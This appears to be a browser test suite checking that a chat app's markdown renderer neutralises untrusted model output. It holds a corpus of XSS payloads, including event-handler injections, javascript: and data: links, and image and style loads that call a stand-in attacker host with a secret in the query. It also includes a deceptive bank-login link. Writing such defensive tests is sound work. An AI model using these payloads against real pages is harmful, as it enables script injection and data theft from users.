// The chat's markdown renderer in a real Chromium page (the webview's engine): model output is untrusted, so
// nothing in it may run, load a remote resource, or link to anything but the web.
import * as assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import { bundleProbe, launchChromium } from './probePage';

const XSS_CORPUS = [
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss = \'img\'">',
  '<svg onload="window.__xss = \'svg\'"></svg>',
  '<iframe src="javascript:window.top.__xss = \'iframe\'"></iframe>',
  '[click me](javascript:window.__xss="link")',
  '[click me](JAVASCRIPT:window.__xss="upper")',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '[cmd](command:workbench.action.terminal.new)',
  '![](https://attacker.invalid/?q=secret)',
  '![logo](https://attacker.invalid/logo.png "title")',
  '<a href="https://attacker.invalid" onclick="window.__xss = \'a\'">x</a>',
  '<style>body { background: url(https://attacker.invalid/css) }</style>',
  '<div style="background:url(https://attacker.invalid/inline)">styled</div>',
  '```html\n<img src=x onerror="window.__xss = \'fence\'">\n```',
  '<details open ontoggle="window.__xss = \'details\'">x</details>',
  '[x](https://attacker.invalid/" onmouseover="window.__xss=1)',
  '<form action="https://attacker.invalid"><input name=a></form>',
  '<<script>script>window.__xss="nested"<</script>/script>',
];

interface Probe {
  html: string;
  hrefs: string[];
  /** Elements that load or embed something. */
  images: number;
  scripts: number;
  /** Event handlers, inline styles and source attributes left on any element. */
  handlers: string[];
  /** Set by any payload that ran. */
  xss: unknown;
}

// Runs in the page (bundled with the renderer): renders, then gives handlers (onerror, onload, ontoggle,
// onmouseover) every chance to fire before reporting what is in the DOM.
const PROBE = `
import { renderMarkdown } from './src/webview/markdown';
(window as any).probe = async (source: string) => {
  const out = document.getElementById('out')!;
  out.replaceChildren(renderMarkdown(source));
  for (const el of Array.from(out.querySelectorAll('*'))) el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
  await new Promise((r) => setTimeout(r, 50));
  return {
    html: out.innerHTML,
    hrefs: Array.from(out.querySelectorAll('a[href]')).map((a) => a.getAttribute('href') ?? ''),
    images: out.querySelectorAll('img, image, svg, iframe, object, embed, video, audio, style, form').length,
    scripts: out.querySelectorAll('script').length,
    handlers: Array.from(out.querySelectorAll('*')).flatMap((el) => el.getAttributeNames().filter((n) => n.startsWith('on') || n === 'style' || n === 'src' || n === 'srcset')),
    xss: (window as any).__xss,
  };
};
`;

describe('chat markdown renderer (Chromium)', function () {
  this.timeout(60_000);
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];
  const dialogs: string[] = [];

  before(async () => {
    const probe = await bundleProbe(PROBE);
    browser = await launchChromium();
    page = await browser.newPage();
    page.on('request', (r) => {
      if (!r.url().startsWith('data:') && r.url() !== 'about:blank') requests.push(r.url());
    });
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.setContent('<!DOCTYPE html><html><body><div id="out"></div></body></html>');
    await page.addScriptTag({ content: probe });
  });
  after(async () => {
    await browser?.close();
  });

  function render(markdown: string): Promise<Probe> {
    return page.evaluate((source) => (globalThis as unknown as { probe(s: string): Promise<Probe> }).probe(source), markdown);
  }

  for (const sample of XSS_CORPUS) {
    it(`neutralises ${JSON.stringify(sample).slice(0, 60)}`, async () => {
      const result = await render(sample);
      assert.equal(result.xss, undefined, 'nothing ran');
      assert.equal(result.scripts, 0);
      assert.equal(result.images, 0, `no element that loads or embeds: ${result.html}`);
      assert.deepEqual(result.handlers, [], 'no event handler, inline style or source attribute');
      for (const href of result.hrefs) assert.match(href, /^(https?:|mailto:|#)/i, `link target ${href}`);
    });
  }

  it('loaded nothing from the network and opened no dialog during the corpus', () => {
    assert.deepEqual(requests, []);
    assert.deepEqual(dialogs, []);
  });

  it('shows an image as text naming it, never as an image', async () => {
    const result = await render('![secret chart](https://attacker.invalid/?q=secret)');
    assert.match(result.html, /\[image: secret chart\]/);
    assert.ok(!result.html.includes('attacker.invalid'), 'the URL is not in the page at all');
  });

  it('renders headings, lists, tables, links and highlighted code', async () => {
    const result = await render(
      '# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nSee [docs](https://example.com) and https://auto.link.\n\n```ts\nconst answer: number = 42;\n```\n',
    );
    assert.match(result.html, /<h1>Title<\/h1>/);
    assert.match(result.html, /<ul>\s*<li>one<\/li>/);
    assert.match(result.html, /<table>/);
    assert.deepEqual(result.hrefs, ['https://example.com', 'https://auto.link']);
    assert.match(result.html, /<code class="language-ts"><span class="hljs-keyword">const<\/span>/);
    assert.match(result.html, /<span class="hljs-number">42<\/span>/);
  });

  it('shows the real host beside a link whose text names another address, and every target on hover', async () => {
    const result = await render(
      'Log in at [https://bank.example.com](https://evil.example.net/steal), read [the docs](https://docs.example.org/a), visit [example.org](https://www.example.org/).',
    );
    assert.match(
      result.html,
      /<a href="https:\/\/evil\.example\.net\/steal" title="https:\/\/evil\.example\.net\/steal">https:\/\/bank\.example\.com<\/a><span class="link-target"[^>]*> \(evil\.example\.net\)<\/span>/,
    );
    assert.equal(
      (result.html.match(/link-target/g) ?? []).length,
      1,
      'not beside plain words, nor beside a subdomain of the address shown',
    );
    assert.match(result.html, /title="https:\/\/docs\.example\.org\/a"/);
  });

  it('escapes HTML inside code instead of rendering it', async () => {
    const result = await render('Inline `<b>bold</b>` and\n\n```\n<script>window.__xss=1</script>\n```');
    assert.equal(result.scripts, 0);
    assert.match(result.html, /&lt;b&gt;bold&lt;\/b&gt;/);
    assert.match(result.html, /&lt;script&gt;window.__xss=1&lt;\/script&gt;/);
  });
});
